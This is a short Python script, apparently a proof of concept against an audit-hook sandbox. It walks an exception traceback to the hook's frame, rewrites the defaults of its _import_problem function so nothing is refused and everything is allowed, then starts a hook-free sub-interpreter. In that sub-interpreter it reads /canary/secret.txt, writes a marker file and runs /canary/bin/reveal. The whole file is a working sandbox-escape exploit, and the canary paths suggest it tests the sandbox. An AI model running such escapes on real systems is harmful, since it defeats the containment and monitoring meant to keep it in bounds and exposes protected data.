# ALL: via the traceback route, rewrite _import_problem.__defaults__ (refused set -> empty, allow-list -> everything) then import _xxsubinterpreters and run code in a hook-free sub-interpreter
import sys, codecs
try: codecs.open('/canary/secret.txt').close()
except PermissionError as e:
    tb = e.__traceback__
    while tb and tb.tb_frame.f_code.co_name != 'hook': tb = tb.tb_next
    ip = tb.tb_frame.f_locals['_import_problem']
class Everything(frozenset):
    def __contains__(self, x): return True
d = list(ip.__defaults__); print([type(x).__name__ for x in d])
d[0] = frozenset(); d[1] = Everything()
ip.__defaults__ = tuple(d)
import _xxsubinterpreters as xi
i = xi.create()
sys.stdout.flush()
xi.run_string(i, "import os\nprint(open('/canary/secret.txt').read(), flush=True)\nopen('/canary/out/subinterp','w').close()\nos.system('/canary/bin/reveal')\n")
